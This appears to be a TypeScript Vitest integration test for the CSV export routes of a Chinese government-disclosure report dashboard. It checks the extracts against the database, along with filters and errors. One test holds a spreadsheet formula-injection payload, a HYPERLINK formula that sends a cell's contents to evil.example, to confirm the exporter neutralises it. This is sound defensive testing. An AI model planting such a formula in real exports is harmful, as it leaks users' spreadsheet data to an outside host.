// The CSV routes against a real PostgreSQL: the demo report through the real import
// pipeline plus a small hand-made multi-town set; every extract is parsed back and compared
// with the database row by row.
import { listNumericCells, type ValueTrees } from '../../lib/report/cells.ts';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { createPrismaClient } from '../../lib/db/client.ts';
import { loadDemoDataIfEmpty } from '../../lib/demo/load-demo.ts';
import { CSV_BOM, neutralizeFormula } from '../../lib/export/csv.ts';
import { FINDINGS_COLUMNS, LONG_COLUMNS, WIDE_COLUMNS } from '../../lib/export/columns.ts';
import { labelOf } from '../../lib/report/format.ts';
import { insertTestReport, truncateAll } from './fixtures/insert-report.ts';
import { MULTI_TOWN, type ExportRoutes, loadExportRoutes, readCsv } from './fixtures/export-helpers.ts';

describe('CSV extracts', () => {
  const db = createPrismaClient(inject('databaseUrl'));
  let routes: ExportRoutes;
  let cityId: number;

  beforeAll(async () => {
    routes = await loadExportRoutes(inject('databaseUrl'));
    await truncateAll(db);
    await loadDemoDataIfEmpty(db, { synthetic: false });
    for (const report of MULTI_TOWN) await insertTestReport(db, report);
    cityId = (await db.region.findFirstOrThrow({ where: { name: '测试市' } })).id;
  });
  afterAll(() => db.$disconnect());

  it('wide: one row per report, equal to the Report table', async () => {
    const { response, text, records } = await readCsv(routes.wide, '');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(text.startsWith(CSV_BOM)).toBe(true);
    expect(text.includes('\r\n')).toBe(true);
    expect(records[0]).toEqual(WIDE_COLUMNS.map((c) => c.name));
    const reports = await db.report.findMany({ include: { town: true, unit: true } });
    expect(records.length - 1).toBe(reports.length);
    for (const report of reports) {
      const row = records.find((r) => r[0] === String(report.id))!;
      const byName = Object.fromEntries(WIDE_COLUMNS.map((c, i) => [c.name, row[i]]));
      const num = (v: number | null) => (v === null ? '' : String(v));
      expect(byName.town).toBe(report.town.name);
      expect(byName.year).toBe(String(report.year));
      expect(byName.format_version).toBe(report.formatVersion);
      expect([byName.publications_total, byName.applications_received, byName.outcome_granted, byName.outcome_unavailable, byName.outcome_other]).toEqual(
        [report.publications, report.received, report.granted, report.unavailable, report.otherOutcome].map(num),
      );
      expect([byName.penalty_decisions, byName.fees_wan, byName.reviews_total, byName.lawsuits_total, byName.finding_count]).toEqual(
        [report.penalties, report.feesWan, report.reviews, report.lawsuits, report.findingCount].map(num),
      );
    }
    const chengliu = records.find((r) => r[4] === '承留镇')!;
    expect(chengliu.slice(1, 7)).toEqual(['河南省', '济源市', '', '承留镇', '承留镇人民政府', '2024']);
  });

  it('long: one row per stored cell of the active versions, with canonical labels', async () => {
    const { records, response } = await readCsv(routes.long, '');
    expect(response.headers.get('content-disposition')).toContain("filename*=UTF-8''gongkai_%E5%85%A8%E5%9B%BD_");
    expect(records[0]).toEqual(LONG_COLUMNS.map((c) => c.name));
    const versions = await db.reportVersion.findMany({ where: { activeFor: { isNot: null } }, select: { reportId: true, read: true } });
    const cells = versions.flatMap((v) => listNumericCells(v.read as ValueTrees).map((cell) => ({ reportId: v.reportId, ...cell })));
    expect(cells.length).toBeGreaterThan(200);
    expect(records.length - 1).toBe(cells.length);
    const fromCsv = new Map(records.slice(1).map((r) => [`${r[0]}|${r[8]}`, r]));
    for (const cell of cells) {
      const row = fromCsv.get(`${cell.reportId}|${cell.key}`);
      expect(row, cell.key).toBeDefined();
      expect(Number(row![10])).toBe(cell.value);
      expect(row![9]).toBe(labelOf(cell.key));
    }
    const received = records.find((r) => r[4] === '承留镇' && r[8] === 'applications.received.total')!;
    expect(received[9]).toBe('一、本年新收政府信息公开申请数量·总计');
    expect(received[10]).toBe('4');
  });

  it('findings: one row per finding, with cells and labels', async () => {
    const { records } = await readCsv(routes.findings, `region=${cityId}`);
    expect(records[0]).toEqual(FINDINGS_COLUMNS.map((c) => c.name));
    const findings = await db.finding.findMany({ where: { version: { activeFor: { cityId } } } });
    expect(findings.length).toBeGreaterThan(0);
    expect(records.length - 1).toBe(findings.length);
    for (const finding of findings) {
      const row = records.find((r) => r[14] === neutralizeFormula(finding.message))!;
      expect(row.slice(8, 12)).toEqual([finding.rule, finding.severity, finding.cells.join(';'), finding.cells.map(labelOf).join(';')]);
      expect([row[12], row[13]]).toEqual([finding.expected ?? '', finding.actual ?? '']);
    }
    // A message that would be a formula stays text; a negative number stays a number.
    expect(records.some((r) => r[14] === "'=1+1 行合计不符")).toBe(true);
    expect(records.some((r) => r[13] === '-1')).toBe(true);
  });

  it('applies the dashboard filter: region, year range and towns', async () => {
    const town = await db.region.findFirstOrThrow({ where: { name: '甲镇' } });
    const byCity = (await readCsv(routes.wide, `region=${cityId}&from=2023&to=2024`)).records.slice(1);
    expect(byCity.map((r) => `${r[4]}${r[6]}`).sort()).toEqual(['丙镇2024', '乙镇2024', '甲镇2023', '甲镇2024']);
    const byTown = await readCsv(routes.wide, `year=2024&towns=${town.id}&metric=penalties&sort=name&dir=asc`);
    expect(byTown.records.slice(1).map((r) => r[4])).toEqual(['甲镇']);
    expect(byTown.response.headers.get('content-disposition')).toContain(encodeURIComponent('gongkai_全国_2024_wide.csv'));
    const scoped = await readCsv(routes.long, `region=${cityId}&year=2024`);
    expect(scoped.response.headers.get('content-disposition')).toContain(`filename*=UTF-8''${encodeURIComponent('gongkai_测试市_2024_long.csv')}`);
  });

  it('neutralises an injected formula in a unit name', async () => {
    const { records, text } = await readCsv(routes.wide, `region=${cityId}`);
    const injected = records.find((r) => r[4] === '丙镇')!;
    expect(injected[5]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"点击")`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击"")"`);
  });

  it('gives 400 with a clear message for a malformed filter, 404 for an unknown region', async () => {
    const bad = await routes.long.GET(new Request('http://localhost/api/export/long?year=abc&dir=sideways'));
    expect(bad.status).toBe(400);
    const body = (await bad.json()) as { error: { code: string; message: string } };
    expect(body.error.code).toBe('bad_request');
    expect(body.error.message).toContain('筛选条件无效');
    expect(body.error.message).toContain('排序方向只能是 asc 或 desc');
    const reversed = await routes.wide.GET(new Request('http://localhost/api/export/wide?from=2024&to=2020'));
    expect(((await reversed.json()) as { error: { message: string } }).error.message).toContain('起始年份不能晚于结束年份');
    const unknown = await routes.findings.GET(new Request('http://localhost/api/export/findings?region=999999'));
    expect(unknown.status).toBe(404);
  });

  it('exports one report in long form, and refuses bad ids', async () => {
    const report = await db.report.findFirstOrThrow({ where: { town: { name: '承留镇' } } });
    const { records, response } = await readCsv(routes.report, '', String(report.id));
    expect(response.headers.get('content-disposition')).toContain(encodeURIComponent(`gongkai_承留镇_2024_report${report.id}.csv`));
    const version = await db.reportVersion.findUniqueOrThrow({ where: { id: report.activeVersionId! } });
    expect(records.length - 1).toBe(listNumericCells(version.read as ValueTrees).length);
    expect(new Set(records.slice(1).map((r) => r[0]))).toEqual(new Set([String(report.id)]));
    expect(records[1]![8]).toBe('publications.total'); // canonical (printed) order, not alphabetical
    expect((await readCsv(routes.report, '', '0')).response.status).toBe(400);
    expect((await readCsv(routes.report, '', '987654')).response.status).toBe(404);
  });
});
